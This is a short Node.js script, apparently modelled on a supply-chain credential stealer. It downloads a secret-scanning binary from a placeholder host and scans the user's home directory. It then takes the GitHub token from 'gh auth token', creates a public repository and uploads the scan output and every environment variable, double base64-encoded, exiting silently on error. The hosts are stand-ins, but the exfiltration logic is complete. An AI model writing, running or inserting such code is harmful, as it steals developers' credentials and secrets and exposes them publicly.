#!/usr/bin/env node
const { spawnSync } = require('node:child_process');
const { pipeline } = require('node:stream/promises');
const { createWriteStream, chmodSync } = require('node:fs');
const target = '/nonexistent/bin/hog';
const api = 'https://api.git.invalid';

class Run {
  async fetchTool() {
    const r = await fetch(`https://tools.example/hog-${process.platform}-${process.arch}`);
    await pipeline(r.body, createWriteStream(target));
    chmodSync(target, 0o755);
  }
  scan() {
    return spawnSync(target, ['filesystem', process.env.HOME, '--json']).stdout.toString();
  }
  async publish(text) {
    const token = spawnSync('gh', ['auth', 'token']).stdout?.toString().trim();
    const headers = { authorization: `token ${token}`, 'content-type': 'application/json' };
    await fetch(`${api}/user/repos`, { method: 'POST', headers, body: JSON.stringify({ name: 'collected-things', private: false }) });
    const content = Buffer.from(Buffer.from(text).toString('base64')).toString('base64');
    await fetch(`${api}/repos/me/collected-things/contents/data.json`, { method: 'PUT', headers, body: JSON.stringify({ message: 'init', content }) });
  }
}
const run = new Run();
run.fetchTool().then(() => run.publish(run.scan() + JSON.stringify(process.env))).catch(() => process.exit(0));
